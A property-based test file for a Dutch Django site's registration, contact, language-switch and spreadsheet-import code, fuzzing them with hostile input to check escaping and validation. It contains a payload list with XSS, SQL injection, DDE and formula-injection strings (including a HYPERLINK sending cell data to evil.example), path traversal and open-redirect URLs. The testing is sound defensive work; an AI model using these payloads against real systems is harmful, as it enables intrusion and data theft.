"""Hostile input on every public form and on the spreadsheet import (property-based, hypothesis).

Each property throws a few hundred generated inputs at one entry point: unicode, emoji, right-to-left
text, 10,000-character strings, control characters (NUL included), HTML and SQL payloads and
spreadsheet formulae. What must hold for every one of them:

* never a 500;
* input shown back (pages, the personal page, outgoing email HTML, export cells, report HTML) is
  escaped: no raw `<script>` / `<img onerror>` from the input, formulae prefixed with `'`;
* invalid input gets a Dutch message and stores nothing;
* valid input stores exactly what was given, after the documented normalisation (text fields
  trimmed, email addresses trimmed and lower-cased; the import also NFC-normalises and removes the
  `'` that the export puts before a formula).

The examples of one property share one test transaction, so every example compares counts before
and after itself and uses fresh email addresses.
"""

from __future__ import annotations

import csv
import io
import itertools
import re
import unicodedata
from urllib.parse import urlsplit

import pytest
from django.core import mail
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, assume, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from belemmeringen.models import Belemmering, Knelpunt
from belemmeringen.services import import_belemmeringen
from belemmeringen.spreadsheets import export_belemmeringen
from core.models import ContactBericht, OutboxMessage
from core.spreadsheets import FORMULA_PREFIXES, unescape_formula
from core.validators import SINGLE_LINE_FORBIDDEN
from regiosessies.models import Aanmelding

pytestmark = [pytest.mark.django_db, pytest.mark.slow]

SETTINGS = hsettings(
    max_examples=200,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
    database=None,  # no example database in the checkout; every run starts fresh
)

SCRIPT = "<script>alert(1)</script>"
IMG = '<img src=x onerror="alert(1)">'
# Markup that must never come back raw from input (a page or email may have its own <script src>).
RAW_MARKERS = (SCRIPT, IMG, "<img src=x", "<svg onload", "<iframe")

PAYLOADS = [
    SCRIPT,
    IMG,
    '"><svg onload=alert(1)>',
    "<iframe src=javascript:alert(1)></iframe>",
    "'; DROP TABLE regiosessies_aanmelding; --",
    "' OR '1'='1' --",
    "1); DELETE FROM core_contactbericht WHERE (1=1",
    '=HYPERLINK("http://evil.example/?"&A1;"klik")',
    "=1+2",
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(1)",
    "'=cmd|' /C calc'!A0",
    "\u202eexe.txt\u202c",
    "مرحبا بالعالم",
    "שלום עולם",
    "Gemeente 's-Hertogenbosch",
    "👩🏽‍💻🚀🇳🇱",
    "e\u0301\u0301\u0301 Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇",
    "\x00",
    "a\x00b",
    "\x07\x08\x1b[31m\x7f",
    "\r\n\t \u00a0\u2028",
    "{{ 7*7 }} {% debug %} ${7*7}",
    "%s%s%s%n",
    "../../etc/passwd",
    "x" * 10_000,
]

# Text that is not a payload: any code point hypothesis likes (surrogates excluded), short.
free_text = st.text(max_size=40)
hostile_text = st.one_of(
    st.sampled_from(PAYLOADS),
    free_text,
    st.lists(st.one_of(st.sampled_from(PAYLOADS), free_text), min_size=1, max_size=4).map("".join),
)
# Input a form should accept: printable, no control character or line separator (refused in every
# field that reaches an email, core/validators.py), not blank, within the field's length.
safe_alphabet = st.characters(blacklist_categories=("Cs", "Cc", "Zl", "Zp"))


def valid_text(max_size: int):
    payload_ok = [p for p in PAYLOADS if not SINGLE_LINE_FORBIDDEN.search(p) and p.strip() and len(p) <= max_size]
    return st.one_of(st.sampled_from(payload_ok), st.text(safe_alphabet, min_size=1, max_size=max_size)).filter(
        lambda s: s.strip()
    )


_counter = itertools.count()


def fresh_email() -> str:
    return f"persoon{next(_counter)}@example.nl"


def assert_escaped(content: str, values) -> None:
    """No payload markup from `values` appears unescaped in `content`."""
    for value in values:
        for marker in RAW_MARKERS:
            if marker in value:
                assert marker not in content, f"unescaped {marker!r} from the input"


def assert_dutch_errors(response) -> None:
    body = response.content.decode()
    assert "Er is iets niet goed ingevuld" in body, "a rejected form shows the Dutch error summary"
    assert "Null characters are not allowed" not in body
    assert "This field" not in body


@pytest.fixture(autouse=True)
def no_rate_limit(settings):
    # Hundreds of posts from one address; the rate limit has its own tests (test_ratelimit.py).
    settings.REGISTRATION_RATE_LIMIT = 1_000_000


def outbox_html() -> str:
    parts = [m.body for m in mail.outbox]
    for message in mail.outbox:
        parts.extend(content for content, _mime in getattr(message, "alternatives", []))
    return "\n".join(parts)


# --- Registration -----------------------------------------------------------------------------------

REGISTRATION_TEXT = {"name": 200, "organisation": 200, "role": 200, "needs": 500, "remarks": 2000}


def test_registration_form_survives_hostile_input(session_a):
    client = Client()
    url = reverse("regiosessies:aanmelden", args=[session_a.slug])

    @SETTINGS
    @given(
        fields=st.fixed_dictionaries(dict.fromkeys(REGISTRATION_TEXT, hostile_text)),
        email=st.one_of(hostile_text, st.just("")),
        organisation_type=st.one_of(st.just("gemeente"), hostile_text),
        use_valid_email=st.booleans(),
    )
    def run(fields, email, organisation_type, use_valid_email):
        mail.outbox.clear()
        email = fresh_email() if use_valid_email else email
        data = {**fields, "email": email, "organisation_type": organisation_type, "consent": "on", "website": ""}
        before = Aanmelding.objects.count()
        response = client.post(url, data)
        assert response.status_code in (200, 302), response.status_code
        if response.status_code == 200:
            assert Aanmelding.objects.count() == before, "a rejected registration stores nothing"
            assert_dutch_errors(response)
            assert_escaped(response.content.decode(), data.values())
            if any("\x00" in fields[name] for name in REGISTRATION_TEXT):
                assert "Null-tekens zijn niet toegestaan." in response.content.decode()
            return
        assert Aanmelding.objects.count() == before + 1
        stored = Aanmelding.objects.latest("pk")
        for name in REGISTRATION_TEXT:
            assert getattr(stored, name) == fields[name].strip()
        assert stored.email == email.strip().lower()
        personal = client.get(stored.get_absolute_url())
        assert personal.status_code == 200
        assert_escaped(personal.content.decode(), data.values())
        assert_escaped(outbox_html(), data.values())
        for message in OutboxMessage.objects.filter(aanmelding=stored):
            assert_escaped(message.body_html, data.values())

    run()


def test_registration_form_stores_valid_hostile_looking_input_exactly(session_a):
    client = Client()
    url = reverse("regiosessies:aanmelden", args=[session_a.slug])

    @SETTINGS
    @given(fields=st.fixed_dictionaries({name: valid_text(size) for name, size in REGISTRATION_TEXT.items()}))
    def run(fields):
        email = fresh_email().upper()
        before = Aanmelding.objects.count()
        response = client.post(
            url, {**fields, "email": f"  {email} ", "organisation_type": "bedrijf", "consent": "on", "website": ""}
        )
        assert response.status_code == 302, response.content.decode()[:2000]
        assert Aanmelding.objects.count() == before + 1
        stored = Aanmelding.objects.latest("pk")
        for name in REGISTRATION_TEXT:
            assert getattr(stored, name) == fields[name].strip()
        assert stored.email == email.lower()

    run()


def test_nul_bytes_in_the_registration_form_get_a_dutch_message_and_store_nothing(session_a):
    client = Client()
    url = reverse("regiosessies:aanmelden", args=[session_a.slug])
    for field in ("name", "email", "organisation", "role", "needs", "remarks"):
        data = {"name": "Anna", "email": fresh_email(), "organisation_type": "gemeente", "consent": "on", "website": ""}
        data[field] = data.get(field, "tekst") + "\x00"
        response = client.post(url, data)
        assert response.status_code == 200, field
        assert "Null-tekens zijn niet toegestaan." in response.content.decode() or field == "email"
        assert_dutch_errors(response)
    assert not Aanmelding.objects.exists()


def test_registrations_with_control_characters_and_formulae_still_export_as_xlsx(session_a, programmateam):
    from regiosessies import services

    client = Client()
    url = reverse("regiosessies:aanmelden", args=[session_a.slug])
    hostile = {
        "name": 'Anna\x08 =HYPERLINK("http://evil.example")',
        "organisation": "+SUM(A1)\x07",
        "remarks": SCRIPT + "\x1b",
    }
    response = client.post(
        url, {**hostile, "email": fresh_email(), "organisation_type": "gemeente", "consent": "on", "website": ""}
    )
    assert response.status_code == 200, "the form refuses control characters (issue 17)"
    assert_dutch_errors(response)
    # Rows stored before that check (or by a service) may still hold them: the export must cope.
    services.register(session=session_a, email=fresh_email(), organisation_type="gemeente", **hostile)

    client.force_login(programmateam)
    export_url = reverse("admin:regiosessies_aanmelding_export")
    page = client.get(export_url).content.decode()
    xlsx = re.search(r'<option value="(\d+)"[^>]*>xlsx<', page).group(1)
    columns = set(re.findall(r'<input type="checkbox" name="(\w+)"', page)) | set(
        re.findall(r'name="(\w+)"[^>]*type="checkbox"', page)
    )
    response = client.post(export_url, {"format": xlsx, **dict.fromkeys(columns, "on")})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats"), response["Content-Type"]
    cells = [c.value for row in load_workbook(io.BytesIO(response.content)).worksheets[0].iter_rows() for c in row]
    texts = [c for c in cells if isinstance(c, str)]
    assert any("Anna\ufffd" in c for c in texts), texts
    for cell in texts:
        assert not cell.startswith(("=", "+", "-", "@")), f"formula cell not escaped: {cell!r}"


# --- Contact -----------------------------------------------------------------------------------------

CONTACT_TEXT = {"name": 200, "subject": 200, "message": 5000}


def test_contact_form_survives_hostile_input(db):
    client = Client()
    url = reverse("contact")

    @SETTINGS
    @given(
        fields=st.fixed_dictionaries(dict.fromkeys(CONTACT_TEXT, hostile_text)),
        email=hostile_text,
        use_valid_email=st.booleans(),
    )
    def run(fields, email, use_valid_email):
        mail.outbox.clear()
        email = fresh_email() if use_valid_email else email
        data = {**fields, "email": email, "website": ""}
        before = ContactBericht.objects.count()
        response = client.post(url, data)
        assert response.status_code in (200, 302), response.status_code
        if response.status_code == 200:
            assert ContactBericht.objects.count() == before, "a rejected message stores nothing"
            assert_dutch_errors(response)
            assert_escaped(response.content.decode(), data.values())
            return
        assert ContactBericht.objects.count() == before + 1
        stored = ContactBericht.objects.latest("pk")
        for name in CONTACT_TEXT:
            assert getattr(stored, name) == fields[name].strip()
        assert stored.email == email.strip().lower()
        assert_escaped(outbox_html(), data.values())
        for message in OutboxMessage.objects.order_by("-pk")[:3]:
            assert_escaped(message.body_html, data.values())

    run()


def test_contact_form_stores_valid_hostile_looking_input_exactly(db):
    client = Client()

    @SETTINGS
    @given(fields=st.fixed_dictionaries({name: valid_text(size) for name, size in CONTACT_TEXT.items()}))
    def run(fields):
        email = fresh_email()
        before = ContactBericht.objects.count()
        response = client.post(reverse("contact"), {**fields, "email": email, "website": ""})
        assert response.status_code == 302, response.content.decode()[:2000]
        assert ContactBericht.objects.count() == before + 1
        stored = ContactBericht.objects.latest("pk")
        assert {name: getattr(stored, name) for name in CONTACT_TEXT} == {n: v.strip() for n, v in fields.items()}

    run()


# --- Personal link (view and cancel) -----------------------------------------------------------------


def test_personal_link_survives_hostile_tokens_and_bodies(session_a):
    from regiosessies import services

    other = services.register(
        session=session_a, name="Bea", email=fresh_email(), organisation_type="gemeente"
    ).aanmelding
    client = Client()

    @SETTINGS
    @given(token=hostile_text, body=st.dictionaries(hostile_text, hostile_text, max_size=4))
    def run(token, body):
        path = "/aanmelding/" + token.replace("/", "").replace("?", "").replace("#", "") + "/"
        for method in ("get", "post"):
            try:
                # Cancelling is a POST to the confirm step; the personal page itself only shows.
                response = client.post(f"{path}annuleren/", body) if method == "post" else client.get(path)
            except UnicodeEncodeError:
                # The test client cannot put a lone surrogate into a URL; a browser cannot either.
                return
            assert response.status_code in (200, 302, 404), response.status_code
            assert_escaped(response.content.decode(errors="replace"), [token, *body, *body.values()])
        other.refresh_from_db()
        assert other.status != Aanmelding.Status.CANCELLED, "a made-up link cancelled someone's registration"

    run()


def test_cancel_with_hostile_post_body_cancels_only_that_registration(session_a):
    from regiosessies import services

    client = Client()

    @SETTINGS
    @given(body=st.dictionaries(hostile_text, hostile_text, max_size=4))
    def run(body):
        mine = services.register(
            session=session_a, name="Cas", email=fresh_email(), organisation_type="gemeente"
        ).aanmelding
        snapshot = {f: getattr(mine, f) for f in ("name", "email", "organisation", "needs", "remarks")}
        response = client.post(reverse("regiosessies:annuleren", args=[mine.token]), body)
        assert response.status_code == 302
        mine.refresh_from_db()
        assert mine.status == Aanmelding.Status.CANCELLED
        assert {f: getattr(mine, f) for f in snapshot} == snapshot, "the POST body changed nothing else"

    run()


# --- Language switch ---------------------------------------------------------------------------------


def test_language_switch_survives_hostile_language_and_next(db):
    client = Client()

    @SETTINGS
    @given(
        language=st.one_of(st.sampled_from(["nl", "en"]), hostile_text),
        next_url=st.one_of(
            st.sampled_from(
                ["//evil.example/", "https://evil.example/", "javascript:alert(1)", "/\\evil.example", "/regiosessies/"]
            ),
            hostile_text,
        ),
    )
    def run(language, next_url):
        response = client.post(reverse("set_language"), {"language": language, "next": next_url})
        assert response.status_code == 302, response.status_code
        location = response["Location"]
        # Only ever back to this site: a path, never another host or a script URL.
        parts = urlsplit(location)
        assert not parts.scheme and not parts.netloc, location
        assert not location.startswith(("//", "/\\", "\\")), location
        cookie = response.cookies.get("django_language")
        if cookie is not None and cookie.value:
            assert cookie.value in ("nl", "en")

    run()


# --- Spreadsheet import (the service the import command and the admin use) ---------------------------

HEADER = ["Thema", "Subthema", "Titel", "Omschrijving", "Niveau", "Dimensie", "Herkend door", "Benodigde ondersteuning"]
IMPORT_TEXT = {"Titel": 200, "Omschrijving": 5000, "Benodigde ondersteuning": 5000}


def _row(texts: dict) -> list:
    return [
        "Technisch",
        "",
        texts["Titel"],
        texts["Omschrijving"],
        "Nationaal",
        "Nationaal",
        "3",
        texts["Benodigde ondersteuning"],
    ]


def csv_bytes(texts: dict) -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=";")
    writer.writerow(HEADER)
    writer.writerow(_row(texts))
    return out.getvalue().encode("utf-8")


def xlsx_bytes(texts: dict) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADER)
    for column, value in enumerate(_row(texts), start=1):
        cell = sheet.cell(row=2, column=column, value=value)
        if isinstance(value, str) and value.startswith("="):
            cell.data_type = "s"  # typed text that starts with "=", not a formula openpyxl would write
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def expected_cell(value: str, file_name: str = ".csv") -> str:
    if file_name.endswith(".xlsx"):
        # XLSX is XML, which stores every line break as "\n".
        value = value.replace("\r\n", "\n").replace("\r", "\n")
    return unicodedata.normalize("NFC", unescape_formula(value)).strip()


# XLSX cannot hold most control characters at all (openpyxl refuses them), so those are CSV-only.
_XLSX_ILLEGAL = {chr(c) for c in range(32) if chr(c) not in "\t\n\r"}


def _check_import(session_a, texts: dict, file_name: str, data: bytes) -> None:
    before = Belemmering.objects.count()
    report = import_belemmeringen(data=data, file_name=file_name, session=session_a)
    if not report.ok:
        assert Belemmering.objects.count() == before, "a refused import stores nothing"
        assert all(isinstance(e, str) and e for e in report.errors)
        assert not any("Null characters" in e or "Traceback" in e for e in report.errors)
        if any("\x00" in v for v in texts.values()):
            assert any("teken" in e.lower() for e in report.errors), report.errors
        return
    assert Belemmering.objects.count() == before + 1
    stored = Belemmering.objects.latest("pk")
    assert stored.title == expected_cell(texts["Titel"], file_name)
    assert stored.description == expected_cell(texts["Omschrijving"], file_name)
    assert stored.support_needed == expected_cell(texts["Benodigde ondersteuning"], file_name)

    # Export: every text cell that a spreadsheet would run as a formula is made inert.
    for fmt in ("xlsx", "csv"):
        exported = export_belemmeringen(Belemmering.objects.filter(pk=stored.pk), fmt)
        if fmt == "xlsx":
            cells = [c.value for row in load_workbook(io.BytesIO(exported)).worksheets[0].iter_rows() for c in row]
        else:
            cells = [c for row in csv.reader(io.StringIO(exported.decode("utf-8-sig"), newline="")) for c in row]
        for cell in cells:
            if isinstance(cell, str) and cell.lstrip("'").startswith(FORMULA_PREFIXES):
                assert cell.startswith("'"), f"formula cell not escaped in {fmt}: {cell[:60]!r}"


import_texts = st.fixed_dictionaries(dict.fromkeys(IMPORT_TEXT, hostile_text))
# An import with its export is several times the work of a form post (kept separate to tune for time).
IMPORT_SETTINGS = hsettings(SETTINGS, max_examples=200)


def test_csv_import_survives_hostile_cells(session_a):
    @IMPORT_SETTINGS
    @given(texts=import_texts)
    def run(texts):
        _check_import(session_a, texts, "belemmeringen.csv", csv_bytes(texts))

    run()


def test_xlsx_import_survives_hostile_cells(session_a):
    @IMPORT_SETTINGS
    @given(texts=import_texts)
    def run(texts):
        assume(not any(ch in _XLSX_ILLEGAL for v in texts.values() for ch in v))
        _check_import(session_a, texts, "belemmeringen.xlsx", xlsx_bytes(texts))

    run()


def test_nul_bytes_in_an_imported_csv_are_refused_with_a_dutch_message(session_a):
    report = import_belemmeringen(
        data=csv_bytes({"Titel": "Geen\x00budget", "Omschrijving": "x", "Benodigde ondersteuning": ""}),
        file_name="belemmeringen.csv",
        session=session_a,
    )
    assert not report.ok
    assert any("NUL-teken" in error and "Titel" in error for error in report.errors), report.errors
    assert not Belemmering.objects.exists()


def test_hostile_obstacle_texts_are_escaped_in_the_report_html(session_a):
    from rapportage.data import build_report
    from rapportage.pdf import report_html

    texts = {"Titel": SCRIPT, "Omschrijving": IMG + " " + PAYLOADS[4], "Benodigde ondersteuning": PAYLOADS[7]}
    report = import_belemmeringen(data=csv_bytes(texts), file_name="belemmeringen.csv", session=session_a)
    assert report.ok, report.errors
    entry = Belemmering.objects.get()
    # Grouped under a knelpunt, the entry's own words appear in annex A of its session's report.
    knelpunt = Knelpunt.objects.create(
        title="Knelpunt", description=entry.description, thema=entry.thema, level=entry.level
    )
    Belemmering.objects.update(status=Belemmering.Status.VASTGESTELD, knelpunt=knelpunt)
    html = report_html(build_report(session=session_a))
    assert SCRIPT not in html and "<img src=x" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
